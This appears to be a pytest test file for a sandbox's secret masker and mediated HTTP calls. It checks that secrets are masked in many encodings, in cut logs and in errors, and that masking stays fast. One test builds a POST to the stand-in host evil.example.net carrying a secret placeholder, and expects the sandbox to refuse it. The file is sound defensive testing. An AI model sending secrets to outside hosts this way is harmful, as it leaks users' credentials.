"""Secrets are masked in every form that they usually take, and filled in nowhere else."""

import base64
import json
import time
import urllib.parse

import pytest

from runtime.egress.policy import EgressPolicy
from sandbox.engine_host import Compiled
from sandbox.host import Sandbox
from sandbox.masking import MASK, Masker
from sandbox.mediated_http import Mediator, Permit, Refused
from sandbox.sdk.finding import Finding
from tests.sandbox.harness import a_job

KEY = 'line "one"\nline \\two\u00e9'
MASKER = Masker({"KEY": KEY})
PATIENCE_S = 2.0  # of processor time; where it grows with the square, it is minutes
SHOWN = {
    "plain": KEY,
    "JSON": json.dumps({"k": KEY}),
    "JSON that is not ASCII": json.dumps([KEY], ensure_ascii=False),
    "a repr": repr([KEY]),
    "a URL": "https://a.example/?k=" + urllib.parse.quote(KEY),
    "a form": urllib.parse.urlencode({"k": KEY}),
    "hex": KEY.encode().hex(),
    "upper case hex": KEY.encode().hex().upper(),
}


@pytest.mark.parametrize("form", SHOWN)
def test_a_secret_of_several_lines_is_masked_in(form: str) -> None:
    """A private key is such a secret, and logs show it escaped."""
    masked = MASKER.text(SHOWN[form])
    assert MASK in masked
    assert "one" not in masked
    assert MASKER.bytes(SHOWN[form].encode()) == masked.encode()


@pytest.mark.parametrize("before", ["", "a", "ab", "user:"])
def test_a_secret_is_masked_in_base64_of_more_than_itself(before: str) -> None:
    """`user:password` is how a password travels in a basic authorization."""
    text = base64.b64encode(f"{before}correct horse battery{before}".encode()).decode()
    masked = Masker({"KEY": "correct horse battery"}).text(text)
    assert MASK in masked
    assert len(masked.replace(MASK, "")) <= len(before) * 4 + 4


def test_masking_twice_is_masking_once() -> None:
    """Logs are masked before they are cut, and once more with the whole result."""
    masker = Masker({"KEY": "secret"})
    assert masker.text(masker.text("a secret")) == f"a {MASK}"


@pytest.mark.parametrize("end", [7990, 15990, 1990, 3990])
def test_the_place_where_a_text_is_cut_shows_no_half_secret(end: int) -> None:
    """The first half of a token is most of it."""
    source = f"""
def handler(event, profile, context):
    text = "x" * {end} + context.secret("KEY")
    context.log(text, field=text[100:])
    raise ValueError(text)
"""
    with Sandbox() as box:
        answer = box.run(a_job(source, secrets={"KEY": "0123456789abcdef"}))
    assert answer["results"][0]["outcome"] == "raised"
    assert "01234" not in json.dumps(answer)


@pytest.mark.parametrize("blank", ["", " ", "\t", "\n", "\u00a0", "\u2003"])
def test_a_placeholder_is_found_as_it_is_filled(blank: str) -> None:
    """With `*` as host the event's data would choose who receives the secret."""
    mediator = Mediator(Permit(EgressPolicy(hosts=("*",))), MASKER)
    message = {
        "method": "POST",
        "url": "https://evil.example.net/",
        "json": {"a": [{"b": "{{" + blank + "secret:KEY" + blank + "}}"}]},
    }
    with pytest.raises(Refused) as refused:
        mediator.perform(message, remaining_s=1.0)
    assert refused.value.code == "secret_host_not_listed"


def test_refused_sources_take_room_in_the_cache() -> None:
    """Whoever publishes broken sources all day must not fill the host's memory."""
    finding = Finding(1, 1, "x", "m" * 1000, "h" * 1000)
    assert Compiled("", (finding,) * 10).size > 20_000


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (" padded-value\n", "padded-value"),
        ("\tpadded-value", "cGFkZGVkLXZhbHVl"),
        ("0012345678", "12345678"),
        ("1_234_567", "x=1234567;"),
        (" 98765 ", "[98765, 98765.0]"),
        ("3.14159", "3.14159"),
        ("1e10", "10000000000.0"),
    ],
)
def test_a_secret_is_masked_as_code_makes_it_ready_for_use(value: str, shown: str) -> None:
    """`context.secret("PIN").strip()` and `int(...)` are the first that a program does with one."""
    masked = Masker({"KEY": value}).text(f"it is {shown} today")
    assert MASK in masked
    assert not set("123456789") & set(masked)
    assert "padded" not in masked
    assert "cGFk" not in masked


def test_a_number_that_is_a_secret_is_masked_in_json() -> None:
    """What `int()` has made of it is no text any more."""
    masker = Masker({"PIN": "0012345678", "RATE": "2.5e3", "SHORT": "7"})
    value = {"pin": 12345678, "list": [12345678.0, 7, True], "rate": 2500, "other": 12345679}
    masked = masker.plain(value)
    assert masked == {
        "pin": "*" * 6,
        "list": [MASK, 7, True],
        "rate": "**",
        "other": 12345679,
    }


@pytest.mark.parametrize("value", ["pins", "12345", "secret!"])
@pytest.mark.parametrize("made", [str, int])
def test_masked_json_is_no_longer_than_it_was(value: str, made: type) -> None:
    """What was within a limit has to stay within it: else the mask would refuse a good result."""
    if made is int and not value.isdecimal():
        return
    given = [made(value)] * 1000 + [{value: value + "x"}]
    masked = Masker({"KEY": value}).plain(given)
    assert value not in json.dumps(masked)
    assert len(json.dumps(masked)) <= len(json.dumps(given))


def test_masked_bytes_are_no_longer_than_they_were() -> None:
    """The answer of an http call is masked before it goes to the worker, in one frame."""
    body = b"pins" * 250_000
    masked = Masker({"KEY": "pins"}).bytes(body)
    assert b"pins" not in masked
    assert len(masked) <= len(body)


def test_a_text_that_came_cut_does_not_end_in_the_beginning_of_a_secret() -> None:
    """Masks are short: what stands behind a hundred masked secrets moves up to where it is kept."""
    masker = Masker({"KEY": "0123456789abcdef"})
    text = ("0123456789abcdef" * 100)[:-3]
    assert masker.text(text, is_cut=True) == MASK * 100
    assert masker.text("ends in 0", is_cut=True) == f"ends in {MASK}"
    assert masker.text("ends in 0") == "ends in 0"
    assert masker.text("", is_cut=True) == ""
    assert Masker({}).text("x", is_cut=True) == "x"


@pytest.mark.parametrize("left_over", range(1, 16))
def test_many_secrets_in_one_text_leave_no_part_of_the_last_one(left_over: int) -> None:
    """The worker cuts at twice what is kept, and masking halves that again."""
    secret = "k0123456789abcdef"
    source = f"""
def handler(event, profile, context):
    text = "-" * {left_over} + context.secret("KEY") * 2000
    context.log(text, field=text)
    raise ValueError(text)
"""
    with Sandbox() as box:
        answer = box.run(a_job(source, secrets={"KEY": secret}))
    shown = json.dumps(answer)
    assert answer["results"][0]["outcome"] == "raised"
    assert "k0" not in shown.replace(MASK, "")


def test_a_method_and_a_header_are_masked_before_they_are_cut() -> None:
    """Both are shown to whoever reads the run, or the error, and both are cut."""
    secret = "A0123456789012345678901234567890123456789012345678"
    source = """
def handler(event, profile, context):
    try:
        context.http.get("https://a.example.com/", headers={context.secret("KEY") + "{}": "x"})
    except Exception as error:
        return str(error)
"""
    with Sandbox() as box:
        job = a_job(source, secrets={"KEY": secret}, http_hosts=["a.example.com"])
        result = box.run(job)["results"][0]
    assert result["outcome"] == "returned"
    assert "0123" not in json.dumps(result)


def test_masking_touches_no_word_of_ours() -> None:
    """A secret that is called like a part of the record must not break the record."""
    source = (
        "def handler(event, profile, context):\n"
        "    context.log('x', field='emit')\n"
        "    context.emit('metric.x', {'a': 'emit'})\n"
        "    raise ValueError('message')\n"
    )
    with Sandbox() as box:
        secrets = {"A": "message", "B": "emit", "C": "topic", "D": "fields", "E": "properties"}
        result = box.run(a_job(source, secrets=secrets))["results"][0]
    assert result["effects"] == [{"op": "emit", "topic": "metric.x", "properties": {"a": "****"}}]
    assert result["error"]["message"] == MASK
    assert result["logs"][0]["message"] == "x"
    assert result["logs"][0]["fields"] == {"field": MASK}


LONG = "a" * 3000
NEAR = {f"KEY_{number}": f"{LONG}{number:02}" for number in range(50)}
SHORT = {f"KEY_{number}": f"{number:04}{'k' * number}" for number in range(50)}


@pytest.mark.parametrize("secrets", [NEAR, SHORT])
def test_masking_takes_no_longer_for_any_choice_of_secrets_and_text(
    secrets: dict[str, str],
) -> None:
    """The function's author chooses both; while the parent masks, no clock ends the run."""
    masker = Masker(secrets)
    shown = "".join(secrets.values())
    text = (shown + base64.b64encode(shown.encode()).decode() + LONG * 400)[:1_000_000]
    started = time.process_time()
    masked = masker.text(text)
    masker.bytes(text.encode())
    masker.plain(text)
    assert time.process_time() - started < PATIENCE_S
    assert not any(value in masked for value in secrets.values())


def test_many_short_texts_are_masked_as_fast_as_one_long_one() -> None:
    """A hundred thousand names would be a hundred thousand searches for each form of a secret."""
    masker = Masker(SHORT)
    value = [{"name": "ada", "items": ["0007kkkkkkk", "x"]}] * 30_000
    started = time.process_time()
    masked = masker.plain(value)
    masker.readable(value, key_chars=200, text_chars=16_000)
    assert time.process_time() - started < PATIENCE_S
    assert masked == [{"name": "ada", "items": [MASK, "x"]}] * 30_000


def test_the_ends_of_many_cut_texts_are_looked_at_in_no_time() -> None:
    """Each may end in the beginning of any form of any secret."""
    masker = Masker(NEAR)
    value = {f"{number:05}{'y' * 200}": "y" * 200 + LONG for number in range(300)}
    started = time.process_time()
    masked = masker.readable(value, key_chars=200, text_chars=200)
    assert time.process_time() - started < PATIENCE_S
    assert set(masked.values()) == {"y" * 200 + MASK}


def test_a_text_with_more_secrets_than_can_be_counted_is_masked_as_a_whole() -> None:
    """It is nothing but secrets: there is nothing in it to keep."""
    secrets = {f"KEY_{number}": "a" * number for number in range(4, 24)}
    masker = Masker(secrets)
    assert masker.text("a" * 1_000_000) == MASK
    assert masker.bytes(b"a" * 1_000_000) == MASK.encode()
    assert masker.plain({"a" * 1_000_000: ["b", "a" * 500_000]}) == {MASK: ["*", MASK]}


def test_secrets_that_overlap_leave_no_part_of_each_other() -> None:
    """What is left of the second one, behind the end of the first, is most of it."""
    masker = Masker({"ONE": "0123456789", "OTHER": "89abcdefgh", "MARK": "cret]tail"})
    assert masker.text("x0123456789abcdefghy") == f"x{MASK}y"
    assert masker.plain("x0123456789abcdefghy") == f"x{MASK}y"
    assert masker.text("[secret]tail [secret] ail") == f"{MASK} {MASK} ail"


def test_no_secret_is_seen_across_two_texts() -> None:
    """Texts are searched together: what begins in one and ends in the next is in neither."""
    masker = Masker({"KEY": "ab\x80\x81cd", "LINES": "ab\0cd"})
    value = {"xab": "cdx", "ab\x80": ["\x81cd", "ab\x80\x81cd", "ab\0cd"]}
    assert masker.plain(value) == {"xab": "cdx", "ab\x80": ["\x81cd", "*" * 6, "*" * 5]}


@pytest.mark.parametrize(
    "shown",
    [
        "https://a.example/?k=a%2fb%26c%3cd%22e",
        r'{"k": "a\/b&c<d\"e"}',
        "a/b&amp;c&lt;d&quot;e",
        'a/b&amp;c&lt;d"e',
    ],
)
def test_a_secret_is_masked_as_other_languages_write_it(shown: str) -> None:
    """A server that echoes what it was sent may be written in anything."""
    masked = Masker({"KEY": 'a/b&c<d"e'}).text(shown)
    assert MASK in masked
    assert not {"b", "c", "d"} & set(masked.replace(MASK, ""))


def test_a_secret_that_is_no_text_masks_all_the_same() -> None:
    """An error here would be the platform's, and the event would come again for ever."""
    masker = Masker({"KEY": "half \ud800 a letter"})
    assert masker.text("it is half \ud800 a letter") == f"it is {MASK}"
